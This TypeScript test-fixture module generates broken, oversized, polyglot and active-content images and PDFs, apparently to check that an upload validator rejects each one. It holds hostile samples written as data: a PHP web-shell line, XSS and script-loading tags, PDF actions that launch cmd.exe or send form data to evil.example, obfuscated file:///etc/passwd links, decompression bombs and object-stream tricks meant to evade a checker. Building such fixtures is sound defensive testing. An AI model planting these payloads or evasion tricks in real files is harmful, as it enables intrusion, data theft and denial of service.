import { deflateSync } from 'node:zlib'
import sharp from 'sharp'
import type { RejectionReason } from '#domain/requests/submission/rejections.texts.ts'
import { deflated, createCompressedPdf, createPdf } from './pdf.ts'
import { createZip, createPlainPicture, overwriteBytes, createPhoto, withComment } from './pictures.ts'
import { blackPng, joinPng, pngChunk, pngHeader } from './png.ts'

export type BrokenFiles = Record<string, [content: Buffer, reason: RejectionReason]>

const latin1 = (text: string) => Buffer.from(text, 'latin1')
const damaged = (content: Buffer): BrokenFiles[string] => [content, 'file-damaged']
const huge = (content: Buffer): BrokenFiles[string] => [content, 'file-too-many-pixels']
const active = (content: Buffer): BrokenFiles[string] => [content, 'file-active']
const cut = (whole: Buffer, part: number) => damaged(whole.subarray(0, Math.floor(whole.length * part)))
const appendTo = (picture: Buffer, more: Buffer | string): BrokenFiles[string] => [
  Buffer.concat([picture, typeof more === 'string' ? latin1(more) : more]),
  'file-type',
]

/** Pictures that are truncated, have a false header or contain too much. */
export async function createBrokenPictures(): Promise<BrokenFiles> {
  const photo = createPhoto(400, 300)
  const jpeg = await photo.clone().jpeg().toBuffer()
  const progressive = await photo.clone().jpeg({ progressive: true }).toBuffer()
  const png = await photo.clone().png().toBuffer()
  const webp = await photo.clone().webp().toBuffer()
  const withMetadata = await photo
    .clone()
    .withExif({ IFD0: { Artist: 'somebody' } })
    .webp()
    .toBuffer()
  const animated = await sharp(
    await Promise.all(['#f00', '#0f0'].map((colour) => createPlainPicture(40, 30, colour).png().toBuffer())),
    {
      join: { animated: true },
    },
  )
    .webp()
    .toBuffer()
  return {
    'nothing at all': damaged(Buffer.alloc(0)),
    'three bytes of a JPEG and blanks': damaged(latin1('\u00ff\u00d8\u00ff' + ' '.repeat(60))),
    'a JPEG cut within its header': damaged(jpeg.subarray(0, 15)),
    'a JPEG cut within its tables': damaged(jpeg.subarray(0, 200)),
    'a JPEG cut in the middle': cut(jpeg, 0.5),
    'a JPEG cut near its end': cut(jpeg, 0.99),
    'a JPEG without its end': damaged(jpeg.subarray(0, -2)),
    'a progressive JPEG cut in the middle': cut(progressive, 0.5),
    'a JPEG whose segment is longer than the file': damaged(
      overwriteBytes(jpeg, '\u00ff\u00db', 2, [0xff, 0xff]).subarray(0, 900),
    ),
    'a PNG with only a signature': damaged(joinPng()),
    'a PNG cut behind its header': damaged(png.subarray(0, 33)),
    'a PNG cut in the middle': cut(png, 0.5),
    'a PNG without its end': damaged(png.subarray(0, -12)),
    'a PNG with its middle missing': damaged(
      joinPng(pngHeader(400, 300), pngChunk('IDAT', latin1('x\u009c')), pngChunk('IEND')),
    ),
    'a PNG whose pixels do not match their checksum': damaged(
      overwriteBytes(png, 'IDAT', 500, [1, 2, 3, 4, 5, 6, 7, 8]),
    ),
    'a PNG without width': damaged(joinPng(pngHeader(0, 300), pngChunk('IDAT'), pngChunk('IEND'))),
    'a PNG that is an SVG': damaged(Buffer.concat([joinPng(), latin1('<svg xmlns="http://www.w3.org/2000/svg"/>')])),
    'a WebP with only a header': damaged(webp.subarray(0, 12)),
    'a WebP cut in the middle': cut(webp, 0.5),
    'a WebP that lacks its last bytes': damaged(webp.subarray(0, -10)),
    'a WebP cut within its metadata': damaged(withMetadata.subarray(0, -8)),
    'a WebP of an unknown kind': damaged(overwriteBytes(webp, 'VP8 ', 0, [0x58, 0x58, 0x58, 0x58])),
    'a WebP whose pixels are invalid': damaged(
      overwriteBytes(
        webp,
        'VP8 ',
        8,
        Array.from({ length: 40 }, () => 0xff),
      ),
    ),
    'a PNG of 256 megapixels in 31 KB': huge(blackPng(16_000, 16_000)),
    'a PNG one line above the limit': huge(blackPng(8000, 5001)),
    'a PNG that claims four gigapixels': huge(joinPng(pngHeader(65_535, 65_535), pngChunk('IDAT'), pngChunk('IEND'))),
    'a JPEG that claims four gigapixels': huge(overwriteBytes(jpeg, '\u00ff\u00c0', 5, [0xff, 0xdc, 0xff, 0xdc])),
    'a WebP that claims 268 megapixels': huge(
      overwriteBytes(webp, Buffer.from([0x9d, 0x01, 0x2a]), 3, [0xff, 0x3f, 0xff, 0x3f]),
    ),
    'an animated WebP': [animated, 'file-animated'],
    'an animated PNG': [blackPng(10, 10, pngChunk('acTL', Buffer.from([0, 0, 0, 2, 0, 0, 0, 0]))), 'file-animated'],
  }
}

/** Pictures that are an archive, a page or a program at the same time. */
export async function createPolyglots(): Promise<BrokenFiles> {
  const photo = createPhoto(200, 150)
  const jpeg = await photo.clone().jpeg().toBuffer()
  const png = await photo.clone().png().toBuffer()
  const webp = await photo.clone().webp().toBuffer()
  return {
    'a JPEG and a ZIP': appendTo(jpeg, createZip()),
    'a JPEG and a ZIP some way behind it': appendTo(
      jpeg,
      Buffer.concat([Buffer.alloc(5000, 1), createZip('a comment')]),
    ),
    'a PNG and a ZIP': appendTo(png, createZip()),
    'a WebP and a ZIP': appendTo(webp, createZip()),
    'a PDF and a ZIP': appendTo(createPdf(), createZip()),
    'a JPEG and a page': appendTo(jpeg, '<html><script>alert(1)</script>'),
    'a JPEG and an SVG': appendTo(jpeg, '  <SVG onload=alert(1)>'),
    'a PNG and a script': appendTo(png, 'x<script src=//evil>'),
    'a WebP and PHP': appendTo(webp, '<?php system($_GET[0]); ?>'),
    'a JPEG and a frame': appendTo(jpeg, '\n<iframe src="javascript:1">'),
    'a JPEG and a Windows program': appendTo(jpeg, 'MZ\u0090\0\u0003'),
    'a JPEG and a Linux program': appendTo(jpeg, '\u007fELF\u0002'),
    'a JPEG and a shell script': appendTo(jpeg, '#!/bin/sh\nid\n'),
    'a JPEG and a RAR': appendTo(jpeg, 'Rar!\u001a\u0007\u0001\0'),
    'a PNG and a 7z': appendTo(png, '7z\u00bc\u00af\u0027\u001c'),
    'a JPEG and a GZip': appendTo(jpeg, '\u001f\u008b\u0008\0'),
    'a JPEG and a PDF': appendTo(jpeg, createPdf()),
    'a JPEG with a PDF in its comment': [withComment(jpeg, '%PDF-1.4\n1 0 obj'), 'file-type'],
    'a PNG with a PDF in its comment': [blackPng(10, 10, pngChunk('tEXt', latin1('a\0%PDF-1.4'))), 'file-type'],
  }
}

/** Documents that are truncated, encrypted, or have active content. */
export function createBrokenPdfs(): BrokenFiles {
  const whole = createPdf()
  const acting = (action: string) => active(createPdf({ catalogue: '/OpenAction 5 0 R', objects: [action] }))
  const hex = Buffer.from(latin1('1 0 << /S /JavaScript >>').toString('hex'))
  const bomb = deflated('', Buffer.alloc(17 * 1024 * 1024))
  const broken: [string, Buffer] = ['/Filter /FlateDecode', latin1('x\u009c' + '\u00ff'.repeat(50))]
  const pictureBomb = deflated('/Type /XObject /Subtype /Image', Buffer.alloc(40 * 1024 * 1024))
  return {
    'a PDF with only a header': damaged(latin1('%PDF-1.7\n')),
    'a PDF cut in the middle': damaged(whole.subarray(0, whole.length / 2)),
    'a PDF cut before its end': damaged(whole.subarray(0, -8)),
    'a PDF without the position of its table': damaged(
      latin1(whole.toString('latin1').replace('startxref', 'startxxxx')),
    ),
    'a PDF whose table is elsewhere': damaged(
      latin1(whole.toString('latin1').replace(/startxref\n\d+/, 'startxref\n17')),
    ),
    'a PDF with its middle missing': damaged(Buffer.concat([whole.subarray(0, 100), whole.subarray(-60)])),
    'a PDF of version 9': damaged(latin1(whole.toString('latin1').replace('%PDF-1.7', '%PDF-9.7'))),
    'a PDF with a page behind it': damaged(Buffer.concat([whole, latin1('<html><script>')])),
    'a PDF that needs a password': [
      createPdf({ trailer: '/Encrypt 5 0 R', objects: ['<< /Filter /Standard /V 2 >>'] }),
      'file-encrypted',
    ],
    'a PDF that needs a password, by an escaped name': [
      createPdf({ trailer: '/Encr#79pt 5 0 R', objects: ['<< /V 2 >>'] }),
      'file-encrypted',
    ],
    'a PDF that runs a script when opened': acting('<< /S /JavaScript /JS (app.alert(1)) >>'),
    'a PDF with a script under an escaped name': acting('<< /S /J#61va#53cript /JS (app.alert(1)) >>'),
    'a PDF with a script by name': active(
      createPdf({ catalogue: '/Names << /JavaScript 5 0 R >>', objects: ['<< >>'] }),
    ),
    'a PDF with an article in another file': acting('<< /S /Thread /F 6 0 R /D 0 >>'),
    ...Object.fromEntries(
      [
        '<< /X (7 0 obj) /S /URI /URI (https://evil.example) >>',
        '<< /X (endobj 7 0 obj) /S /URI /URI (https://evil.example) >>',
        '<< %7 0 obj\n/S /URI /URI (https://evil.example) >>',
        `<< /X (${'x'.repeat(20_000)}) /S /URI /URI (https://evil.example) >>`,
        '7 0 R',
      ].map((action) => [`a PDF that hides what it opens: ${action.slice(0, 40)}`, acting(action)]),
    ),
    'a PDF that opens an object with zeros before its number': active(
      createPdf({
        catalogue: '/OpenAction 00000000000005 0 R',
        objects: ['<< /S /URI /URI (https://evil.example) >>'],
      }),
    ),
    'a PDF that starts a program': acting('<< /S /Launch /F (cmd.exe) >>'),
    'a PDF with a file in it': active(createPdf({ objects: [deflated('/Type /EmbeddedFile', 'MZ')] })),
    'a PDF with files by name': active(
      createPdf({ catalogue: '/Names << /EmbeddedFiles 5 0 R >>', objects: ['<< >>'] }),
    ),
    'a PDF with a video': active(createPdf({ objects: ['<< /Type /Annot /Subtype /RichMedia >>'] })),
    'a PDF that plays media': acting('<< /S /Rendition /OP 0 >>'),
    'a PDF that opens an embedded one': acting('<< /S /GoToE /T << /R /C >> >>'),
    'a PDF that opens another file': acting('<< /S /GoToR /F (next.pdf) /D [0 /Fit] >>'),
    'a PDF that opens a web page by itself': acting('<< /S /URI /URI (https://evil.example) >>'),
    'a PDF that opens a web page right away': active(
      createPdf({ catalogue: '/OpenAction << /S /URI /URI (https://evil.example) >>' }),
    ),
    'a PDF that opens a web page after another action': acting('<< /S /GoTo /D [3 0 R /Fit] /Next 6 0 R >>'),
    'a PDF that does something when its page is shown': active(
      createPdf({ catalogue: '/AA << /O << /S /URI /URI (https://evil.example) >> >>' }),
    ),
    'a PDF of compressed objects that opens a web page by itself': active(
      createCompressedPdf('/OpenAction 2 0 R', '/A << /S /URI /URI (https://evil.example) >>'),
    ),
    ...Object.fromEntries(
      FOREIGN_LINKS.map((link) => [
        `a PDF with a link to ${link.replaceAll(/(?:\\\n){2,}| {2,}/g, '…')}, ${link.length} letters`,
        active(createPdf({ objects: [`<< /Subtype /Link /A << /S /URI /URI ${link} >> >>`, '(file:///etc/passwd)'] })),
      ]),
    ),
    'a PDF with a stream in a file of another computer': active(
      createPdf({ objects: [['/F (\\\\\\\\evil.example\\\\a)', latin1('x')]] }),
    ),
    'a PDF that sends a form': acting('<< /S /SubmitForm /F (https://evil.example) >>'),
    'a PDF that reads a file': acting('<< /S /ImportData /F (c.fdf) >>'),
    'a PDF with an XML form': active(createPdf({ catalogue: '/AcroForm << /XFA 5 0 R >>', objects: ['<< >>'] })),
    'a PDF with a script among compressed objects': active(
      createCompressedPdf('/OpenAction << /S /JavaScript /JS (1) >>'),
    ),
    'a PDF with a script in a compressed stream without a name': active(
      createPdf({ objects: [deflated('', '<< /S /JavaScript >>')] }),
    ),
    'a PDF with objects in hexadecimal': active(
      createPdf({ objects: [['/Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode', hex]] }),
    ),
    ...hiddenObjects(hex),
    'a PDF with a stream that decompresses to too much': damaged(createPdf({ objects: [bomb] })),
    'a PDF with too many streams': damaged(createPdf({ objects: [['', latin1('stream\n'.repeat(20_001))]] })),
    'a PDF with broken streams': damaged(createPdf({ objects: Array.from({ length: 17 }, () => broken) })),
    'a PDF with twenty pictures that decompress to too much': damaged(
      createPdf({ objects: Array.from({ length: 20 }, () => pictureBomb) }),
    ),
  }
}

/** Links as written in the file: PDF strings can be escaped, hexadecimal or Unicode. */
const FOREIGN_LINKS = [
  '(file:///etc/passwd)',
  '( FILE:///etc/passwd)',
  String.raw`(\146ile:///etc/passwd)`,
  '(fi\\\nle:///etc/passwd)',
  String.raw`(\\\\evil.example\\a)`,
  String.raw`(\134\134evil.example\\a)`,
  '(//evil.example/a)',
  '(/\\\\evil.example/a)',
  '(c:/windows/a.exe)',
  '(ms-msdt:/id)',
  '(javascript:alert\\(1\\))',
  '<66696c653a2f2f2f>',
  `(${'\\\n'.repeat(100)}file://evil.example/a)`,
  `(${'\\\n'.repeat(100)}\\\\\\\\evil.example)`,
  `(${'\\\n'.repeat(5000)}file://evil.example/a)`,
  `<${' '.repeat(200)}66696c653a2f2f2f>`,
  '<66 69\n6c65 3a2f2f2f>',
  '<feff00660069006c0065003a002f>',
  '<5c5c6576696c2e6578616d706c65>',
  '6 0 R',
  '%\n(file:///etc/passwd)',
  '<< /Base (file:///) >>',
]

/** A script in an object stream that readers unpack and a checker could miss. */
function hiddenObjects(hex: Buffer): BrokenFiles {
  const script = '1 0 << /S /JavaScript /JS (app.alert(1)) >>'
  const behindNothing = Buffer.from(Array.from(latin1(script)).flatMap((byte) => [0, byte]))
  const hidden = (dictionary: string, stream: Uint8Array) =>
    active(createPdf({ objects: [[`/N 1 /First 4 ${dictionary}`, stream]] }))
  const [, spaced] = deflated('', script)
  return {
    'a PDF with objects behind a long dictionary': hidden(
      `/Type /ObjStm /Filter /ASCIIHexDecode /Pad (${'A'.repeat(5000)})`,
      hex,
    ),
    'a PDF with objects behind text that looks like an object header': hidden(
      '/Type /ObjStm /Filter /ASCIIHexDecode /Pad (1 0 obj) /obj % 1 0 obj\n',
      hex,
    ),
    'a PDF with objects behind a predictor': hidden(
      '/Type /ObjStm /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 1 >>',
      deflateSync(behindNothing),
    ),
    'a PDF with objects that are compressed twice': hidden(
      '/Type /ObjStm /Filter [/FlateDecode /FlateDecode]',
      deflateSync(deflateSync(script)),
    ),
    'a PDF with objects whose type is a reference': hidden('/Type 9 0 R /Filter /ASCIIHexDecode', hex),
    'a PDF with objects and abbreviated filter names': hidden('/Type /ObjStm /F /AHx', hex),
    'a PDF with objects behind an open string': active(
      createPdf({ objects: ['( ', [`/N 1 /First 4 /Filter /ASCIIHexDecode % )\n`, hex]] }),
    ),
    'a PDF with objects behind a bracket in a comment': active(
      createPdf({ objects: ['<< >> % (\n', [`/N 1 /First 4 /Filter /ASCIIHexDecode % )\n`, hex]] }),
    ),
    'a PDF with a space behind the word stream': active(
      latin1(
        createPdf({ objects: [['/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', spaced]] })
          .toString('latin1')
          .replaceAll('stream\r\n', 'stream \n'),
      ),
    ),
  }
}
